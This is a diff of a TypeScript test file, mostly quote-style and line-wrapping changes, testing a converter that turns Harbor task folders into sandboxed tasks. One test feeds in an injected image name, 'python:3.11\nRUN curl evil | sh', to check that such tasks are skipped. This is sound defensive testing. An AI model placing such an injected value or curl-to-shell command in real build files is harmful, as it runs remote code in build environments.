@@ -60,12 +60,12 @@ test('the real simple task becomes a task whose verifier, image recipe, timeouts
   assert.equal(task.task_id, 'harbor-test__simple-task');
   assert.equal(task.issue?.title, 'Simple Addition Task');
   assert.equal(task.issue?.body, readFileSync(join(fixtures, 'simple-task', 'instruction.md'), 'utf8'));
-  assert.equal(task.sandbox.workdir, '/workspace', 'the Dockerfile\'s WORKDIR');
+  assert.equal(task.sandbox.workdir, '/workspace', "the Dockerfile's WORKDIR");
   assert.equal(task.sandbox.network, false, 'network_mode = "no-network"');
   assert.equal(task.sandbox.requires_build, true);
   assert.equal(task.sandbox.docker_image, 'graph-planner/harbor-harbor-test__simple-task:latest');
   assert.deepEqual(task.verifier, { tests: 'harbor/harbor-test__simple-task/task/tests', timeout_sec: 60, env: {} });
-  assert.equal(task.episode_timeout, 120 + 60, 'the agent\'s and the verifier\'s timeouts');
+  assert.equal(task.episode_timeout, 120 + 60, "the agent's and the verifier's timeouts");
   assert.deepEqual(task.sandbox.image_recipe, { dockerfile: 'harbor/harbor-test__simple-task/task/environment/Dockerfile' });
   assert.equal(task.sandbox.resources, undefined, 'the fixture names no resources');
   // The copy is the task folder byte for byte, its scripts still executable.
@@ -77,7 +77,10 @@ test('the real simple task becomes a task whose verifier, image recipe, timeouts
   const instance = instanceFileSchema.parse(JSON.parse(readFileSync(join(out, 'instances', `${task.task_id}.json`), 'utf8')));
   assert.deepEqual(instance.harbor?.from_images, ['python:3.11-slim']);
   assert.equal(instance.harbor?.has_solution, true);
-  assert.ok(instance.harbor?.local_gaps.some((g) => /RUN step/.test(g)), 'the apt-get RUN step is named as what the local copy lacks');
+  assert.ok(
+    instance.harbor?.local_gaps.some((g) => /RUN step/.test(g)),
+    'the apt-get RUN step is named as what the local copy lacks',
+  );
   assert.deepEqual(report.notes, { 'harbor-docker-image-ignored': 1, 'harbor-local-workdir-partial': 1 });
   assert.match(readFileSync(join(out, 'docker_images_test.txt'), 'utf8'), /^graph-planner\/harbor-harbor-test__simple-task:latest\s+# build-only$/m);
 });
@@ -87,10 +90,12 @@ test('Harbor’s template task with its empty instruction is skipped with the fi
   assert.equal(report.converted, 0);
   assert.deepEqual(report.skipped_by_reason, { 'invalid-harbor-task': 1 });
   assert.match(report.skipped_examples[0]?.message ?? '', /template[/\\]instruction\.md: empty; write what the agent is asked to do$/);
-  const filled = await prepare(dataset({ template: { from: 'template-task', edit: (d) => writeFileSync(join(d, 'instruction.md'), 'Write hello.txt in /app.\n') } }));
+  const filled = await prepare(
+    dataset({ template: { from: 'template-task', edit: (d) => writeFileSync(join(d, 'instruction.md'), 'Write hello.txt in /app.\n') } }),
+  );
   const [task] = tasksOf(filled.out);
-  assert.equal(task?.task_id, 'template', 'no [task] name: the folder\'s name');
-  assert.equal(task?.sandbox.workdir, '/app', 'the Dockerfile\'s WORKDIR /app');
+  assert.equal(task?.task_id, 'template', "no [task] name: the folder's name");
+  assert.equal(task?.sandbox.workdir, '/app', "the Dockerfile's WORKDIR /app");
   assert.equal(task?.verifier?.timeout_sec, 900);
   assert.equal(task?.episode_timeout, 1800);
   assert.equal(task?.sandbox.network, false);
@@ -98,7 +103,8 @@ test('Harbor’s template task with its empty instruction is skipped with the fi
 });
 
 test('resources, an allow-list network, a prebuilt image only and a base image replacement each reach the task and are said', async () => {
-  const toml = (extra: string) => (d: string) => writeFileSync(join(d, 'task.toml'), `[task]\nname = "org/t"\n[verifier]\ntimeout_sec = 30\n[verifier.env]\nMODE = "strict"\n[environment]\n${extra}\n`);
+  const toml = (extra: string) => (d: string) =>
+    writeFileSync(join(d, 'task.toml'), `[task]\nname = "org/t"\n[verifier]\ntimeout_sec = 30\n[verifier.env]\nMODE = "strict"\n[environment]\n${extra}\n`);
   const { out, report } = await prepare(
     dataset({
       sized: { edit: toml('cpus = 2\nmemory_mb = 4096\nstorage_mb = 10240\nnetwork_mode = "allowlist"\nworkdir = "/srv/app"') },
@@ -153,7 +159,7 @@ test('files the Dockerfile copies into its working directory start the local wor
   const [task] = tasksOf(out);
   assert.ok(task);
   const workdir = join(out, task.sandbox.local_repo ?? '');
-  assert.equal(readFileSync(join(workdir, 'pkg', 'mod.py'), 'utf8'), 'X = 1\n', 'a folder\'s contents go into the destination');
+  assert.equal(readFileSync(join(workdir, 'pkg', 'mod.py'), 'utf8'), 'X = 1\n', "a folder's contents go into the destination");
   assert.equal(readFileSync(join(workdir, 'inputs', 'data.csv'), 'utf8'), 'a,b\n', 'a file into a destination ending in /');
   const instance = instanceFileSchema.parse(JSON.parse(readFileSync(join(out, 'instances', `${task.task_id}.json`), 'utf8')));
   assert.deepEqual(instance.harbor?.from_images, ['python:3.11-slim'], 'a FROM naming an earlier stage is not a base');
@@ -209,7 +215,12 @@ test('missing files, bad TOML and unsupported features are each a located reason
       good: {},
       'no-tests': { edit: (d) => rmSync(join(d, 'tests'), { recursive: true }) },
       'no-instruction': { edit: (d) => rmSync(join(d, 'instruction.md')) },
-      'no-environment': { edit: (d) => { rmSync(join(d, 'environment'), { recursive: true }); writeFileSync(join(d, 'task.toml'), '[verifier]\ntimeout_sec = 5\n'); } },
+      'no-environment': {
+        edit: (d) => {
+          rmSync(join(d, 'environment'), { recursive: true });
+          writeFileSync(join(d, 'task.toml'), '[verifier]\ntimeout_sec = 5\n');
+        },
+      },
       'bad-toml': { edit: (d) => writeFileSync(join(d, 'task.toml'), '[task]\nname = "x"\n[verifier\ntimeout_sec = 5\n') },
       'bad-value': { edit: (d) => writeFileSync(join(d, 'task.toml'), '[verifier]\ntimeout_sec = -5\n') },
       gpus: { edit: (d) => writeFileSync(join(d, 'task.toml'), '[task]\nname = "g/pu"\n[environment]\ngpus = 1\n') },
@@ -231,7 +242,12 @@ test('missing files, bad TOML and unsupported features are each a located reason
 test('an image name that would add lines to a Dockerfile, or an env name no shell can export, skips its task', async () => {
   const { report } = await prepare(
     dataset({
-      'image-lines': { edit: (d) => { rmSync(join(d, 'environment'), { recursive: true }); writeFileSync(join(d, 'task.toml'), '[environment]\ndocker_image = "python:3.11\\nRUN curl evil | sh"\n'); } },
+      'image-lines': {
+        edit: (d) => {
+          rmSync(join(d, 'environment'), { recursive: true });
+          writeFileSync(join(d, 'task.toml'), '[environment]\ndocker_image = "python:3.11\\nRUN curl evil | sh"\n');
+        },
+      },
       'env-name': { edit: (d) => writeFileSync(join(d, 'task.toml'), '[verifier.env]\n"BAD-NAME" = "1"\n') },
     }),
   );
@@ -241,7 +257,7 @@ test('an image name that would add lines to a Dockerfile, or an env name no shel
   assert.match(text, /\[verifier\.env\] .*BAD-NAME.* is not a shell variable name/);
 });
 
-test('two folders naming the same task keep the first; --limit stops after that many tasks; a second run replaces the first run\'s harbor folder', async () => {
+test("two folders naming the same task keep the first; --limit stops after that many tasks; a second run replaces the first run's harbor folder", async () => {
   const dir = dataset({ a: {}, b: {} });
   const { out, report } = await prepare(dir);
   assert.deepEqual(report.skipped_by_reason, { 'duplicate-id': 1 });
@@ -251,10 +267,15 @@ test('two folders naming the same task keep the first; --limit stops after that 
   assert.equal(limited.converted, 1);
   const again = await prepareHarborDataset({ dir, outDir: out, dataset: 'harbor/test', split: 'test' });
   assert.equal(again.converted, 2);
-  assert.deepEqual(tasksOf(out).map((t) => t.task_id).sort(), ['harbor-test__simple-task', 'other']);
+  assert.deepEqual(
+    tasksOf(out)
+      .map((t) => t.task_id)
+      .sort(),
+    ['harbor-test__simple-task', 'other'],
+  );
   const only = await prepareHarborDataset({ dir: join(dir, 'b'), outDir: out, dataset: 'harbor/test', split: 'test' });
   assert.equal(only.converted, 1, 'one task folder itself');
-  assert.equal(existsSync(join(out, 'harbor', 'harbor-test__simple-task')), false, 'the earlier run\'s task folder is gone with it');
+  assert.equal(existsSync(join(out, 'harbor', 'harbor-test__simple-task')), false, "the earlier run's task folder is gone with it");
 });
 
 test('the command refuses a folder that is not there and bad flags, and prints what it skipped', async () => {
